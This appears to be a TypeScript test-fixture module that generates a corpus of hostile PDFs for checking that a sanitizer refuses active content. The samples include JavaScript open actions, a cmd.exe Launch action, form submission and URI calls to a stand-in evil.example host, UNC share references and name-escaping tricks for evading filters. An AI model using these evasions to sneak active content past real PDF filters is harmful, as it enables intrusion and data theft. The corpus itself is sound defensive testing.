import {
  catalogOpening,
  clean,
  type HostilePdf,
  JS_ACTION,
  linkRunning,
  PAGES,
  type Refusal,
  withCatalog,
} from './pdf-corpus-parts.ts';
import { BASE_OBJECTS, buildPdf, obj, stream } from './pdf-writer.ts';
import { structuralEvasions } from './pdf-corpus-structure.ts';

export type { HostilePdf, Refusal } from './pdf-corpus-parts.ts';

/** Active content written plainly or disguised token by token: names, strings, comments, white-space. */
function actionEvasions(): [string, Buffer, Refusal][] {
  return [
    ['OpenAction JavaScript', catalogOpening(JS_ACTION), 'active'],
    ['OpenAction Launch', catalogOpening('<< /S /Launch /F (cmd.exe) >>'), 'active'],
    [
      'OpenAction URI (any action at opening)',
      catalogOpening('<< /S /URI /URI (https://evil.example) >>'),
      'active',
    ],
    [
      '#-escaped names (/J#61vaScript, /J#53)',
      linkRunning('<< /S /J#61vaScript /J#53 (app.alert(1)) >>'),
      'active',
    ],
    [
      'JavaScript in a hex string, escaped key',
      linkRunning('<< /S /Java#53cript /J#53 <6170702e616c6572742831293b> >>'),
      'active',
    ],
    ['comments splitting tokens', linkRunning('%x\n<</S%y\n/JavaScript%z\n/JS(app.alert(1))>>'), 'active'],
    ['NUL, form feed and tab as white-space', linkRunning('<<\0/S\f/JavaScript\t/JS\0(x)>>'), 'active'],
    [
      '/AA on a page',
      buildPdf([
        BASE_OBJECTS[0]!,
        PAGES,
        obj(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O ${JS_ACTION} >> >>`),
      ]),
      'active',
    ],
    [
      'link annotation running JavaScript',
      buildPdf([
        BASE_OBJECTS[0]!,
        PAGES,
        obj(3, '<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>'),
        obj(
          4,
          `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (x) /Next ${JS_ACTION} >> >>`,
        ),
      ]),
      'active',
    ],
    [
      'embedded file',
      withCatalog(
        '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>',
        obj(4, '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'),
        stream(5, '/Type /EmbeddedFile', 'MZ'),
      ),
      'active',
    ],
    [
      'RichMedia annotation',
      buildPdf([
        BASE_OBJECTS[0]!,
        PAGES,
        obj(3, '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>] >>'),
      ]),
      'active',
    ],
    [
      'XFA form',
      withCatalog(
        '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>',
        stream(4, '', '<xdp:xdp/>'),
      ),
      'active',
    ],
    [
      'SubmitForm on a widget',
      buildPdf([
        BASE_OBJECTS[0]!,
        PAGES,
        obj(
          3,
          '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>] >>',
        ),
      ]),
      'active',
    ],
    [
      'ImportData action',
      buildPdf([
        BASE_OBJECTS[0]!,
        PAGES,
        obj(
          3,
          '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /ImportData /F (x.fdf) >> >>] >>',
        ),
      ]),
      'active',
    ],
    [
      'GoToR to another document',
      buildPdf([
        BASE_OBJECTS[0]!,
        PAGES,
        obj(
          3,
          '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>] >>',
        ),
      ]),
      'active',
    ],
    [
      'GoToE into an embedded document',
      buildPdf([
        BASE_OBJECTS[0]!,
        PAGES,
        obj(
          3,
          '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToE /T << /R /C /N (a) >> >> >>] >>',
        ),
      ]),
      'active',
    ],
    [
      'stream data in another file (/F)',
      buildPdf([...BASE_OBJECTS, stream(4, '/F (\\\\\\\\evil\\\\share\\\\x)', '')]),
      'active',
    ],
    [
      'HTML in a comment',
      Buffer.concat([clean(), Buffer.from('%<html><script>alert(1)</script>\n')]),
      'active',
    ],
    [
      'an OpenAction to a missing object',
      withCatalog('<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>'),
      'active',
    ],
  ];
}

/** Every evasion of the corpus: each must be refused, whatever hides it. */
export function hostilePdfs(): HostilePdf[] {
  return [...actionEvasions(), ...structuralEvasions()].map(([name, bytes, refusal]) => ({
    name,
    bytes,
    refusal,
  }));
}
